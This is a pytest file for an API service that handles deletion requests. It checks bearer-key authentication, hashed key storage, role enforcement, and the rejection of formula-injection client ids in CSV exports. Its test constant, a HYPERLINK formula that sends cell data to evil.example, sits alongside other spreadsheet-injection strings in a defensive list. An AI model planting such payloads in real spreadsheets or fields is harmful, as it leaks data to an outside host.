"""API keys: only hashes stored, bearer auth on every route, roles enforced."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient
from sqlalchemy import select, update

from app.auth import service as keys
from app.auth.models import ApiKey, Role
from app.cli import keys as keys_command
from app.core.config import Settings, get_settings
from app.core.db import session_scope
from app.core.errors import Unprocessable
from app.core.spreadsheet import inert_cell
from tests.api.conftest import KeyFactory
from tests.conftest import app_of

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
BAD_CLIENT_IDS = [FORMULA, "+1", "-1", "@SUM(A1)", "acme\n", "acme bank", "", "a" * 129,
                  "\uff1dcmd"]


def test_requests_without_a_key_are_401_problems(client: TestClient) -> None:
    response = client.get("/v1/deletion-requests")
    assert response.status_code == 401
    assert response.headers["content-type"] == "application/problem+json"
    assert response.headers["www-authenticate"] == "Bearer"


@pytest.mark.parametrize("presented", ["garbage", "lethe_nope_nope", "Basic abc"])
def test_malformed_or_unknown_keys_are_rejected(client: TestClient, presented: str) -> None:
    response = client.get("/v1/deletion-requests",
                          headers={"Authorization": f"Bearer {presented}"})
    assert response.status_code == 401


def test_a_wrong_secret_for_a_real_key_id_is_rejected(
        client: TestClient, requester: dict[str, str]) -> None:
    forged = requester["Authorization"][:-4] + "AAAA"
    assert client.get("/v1/deletion-requests",
                      headers={"Authorization": forged}).status_code == 401


def test_only_a_hash_of_the_key_is_stored(client: TestClient, make_key: KeyFactory) -> None:
    plain = make_key("requester", "acme")["Authorization"].removeprefix("Bearer ")
    with session_scope(app_of(client).state.sessionmaker) as db_session:
        stored = db_session.scalars(select(ApiKey)).one()
    secret = plain.split("_", 2)[2]
    assert secret not in (stored.secret_hash, stored.id, stored.name)
    assert len(stored.secret_hash) == 64


@pytest.mark.parametrize(("role", "path", "allowed"), [
    ("requester", "/v1/audit", False),
    ("operator", "/v1/audit", False),
    ("auditor", "/v1/audit", True),
    ("admin", "/v1/audit", True),
    ("requester", "/v1/api-keys", False),
    ("operator", "/v1/api-keys", False),
    ("admin", "/v1/api-keys", True),
    ("auditor", "/v1/deletion-requests", True),
])
def test_roles_are_enforced_on_reads(client: TestClient, make_key: KeyFactory, role: str,
                                     path: str, allowed: bool) -> None:
    response = client.get(path, headers=make_key(role, "acme"))
    assert response.status_code == (200 if allowed else 403), response.text


@pytest.mark.parametrize("role", ["requester", "auditor"])
def test_only_operators_register_datasets(client: TestClient, make_key: KeyFactory,
                                          role: str) -> None:
    response = client.post("/v1/datasets", json={"name": "d"}, headers=make_key(role))
    assert response.status_code == 403


def test_auditors_cannot_submit_deletion_requests(client: TestClient,
                                                  auditor: dict[str, str]) -> None:
    response = client.post("/v1/deletion-requests", headers=auditor,
                           json={"kind": "subject", "subject_ref": "x"})
    assert response.status_code == 403


def test_admins_create_and_revoke_keys_over_the_api(client: TestClient,
                                                    make_key: KeyFactory) -> None:
    admin = make_key("admin", "lethe")
    created = client.post("/v1/api-keys", json={"role": "requester", "client_id": "acme"},
                          headers=admin)
    assert created.status_code == 201
    new_key = {"Authorization": f"Bearer {created.json()['key']}"}
    assert client.get("/v1/deletion-requests", headers=new_key).status_code == 200
    assert "key" not in client.get("/v1/api-keys", headers=admin).json()[0]
    client.post(f"/v1/api-keys/{created.json()['id']}/revoke", headers=admin)
    assert client.get("/v1/deletion-requests", headers=new_key).status_code == 401


def test_the_api_and_keys_create_refuse_the_same_client_ids(client: TestClient,
                                                             make_key: KeyFactory) -> None:
    admin = make_key("admin", "lethe")
    for client_id in BAD_CLIENT_IDS:
        response = client.post("/v1/api-keys", json={"role": "requester",
                                                     "client_id": client_id}, headers=admin)
        assert response.status_code == 422, client_id
        sessionmaker = app_of(client).state.sessionmaker
        with session_scope(sessionmaker) as db_session, pytest.raises(
                Unprocessable, match="Invalid client id"):
            keys.create(db_session, role=Role.requester, client_id=client_id)
    with session_scope(app_of(client).state.sessionmaker) as db_session:
        assert [k.client_id for k in keys.list_all(db_session)] == ["lethe"]


def test_lethe_keys_create_refuses_what_the_api_refuses(
        client: TestClient, settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LETHE_DATA_DIR", str(settings.data_dir))
    monkeypatch.setenv("LETHE_DATABASE_URL", settings.resolved_database_url)
    get_settings.cache_clear()
    try:
        refused = CliRunner().invoke(keys_command, ["create", "--role", "requester",
                                                    "--client", FORMULA])
        assert refused.exit_code == 2 and "Invalid client id" in refused.output
        created = CliRunner().invoke(keys_command, ["create", "--role", "requester",
                                                    "--client", "acme-bank"])
        assert created.exit_code == 0, created.output
    finally:
        get_settings.cache_clear()
    with session_scope(app_of(client).state.sessionmaker) as db_session:
        assert [k.client_id for k in keys.list_all(db_session)] == ["acme-bank"]

def test_csv_cells_that_could_start_a_formula_are_quoted() -> None:
    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\uff1d1", "\uff0b1", "\uff0d1",
                 "\uff201"):
        assert inert_cell(text) == f"'{text}"
    assert [inert_cell(v) for v in ("acme", "2026-01-01T00:00:00+00:00", -2, 0.5, None)] == [
        "acme", "2026-01-01T00:00:00+00:00", -2, 0.5, ""]


def test_a_formula_client_id_from_before_the_check_reaches_the_csv_as_text(
        client: TestClient, make_key: KeyFactory, operator: dict[str, str]) -> None:
    # A key `lethe keys create` accepted before it checked client ids.
    legacy = make_key("requester", "acme")
    with session_scope(app_of(client).state.sessionmaker) as db_session:
        db_session.execute(update(ApiKey).where(ApiKey.client_id == "acme")
                           .values(client_id=FORMULA))
    submitted = client.post("/v1/deletion-requests", headers=legacy,
                            json={"kind": "subject", "subject_ref": "customer-1"})
    assert submitted.status_code in (201, 202), submitted.text
    response = client.get("/v1/deletion-requests", headers={**operator, "Accept": "text/csv"})
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [r["client_id"] for r in rows] == [f"'{FORMULA}"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
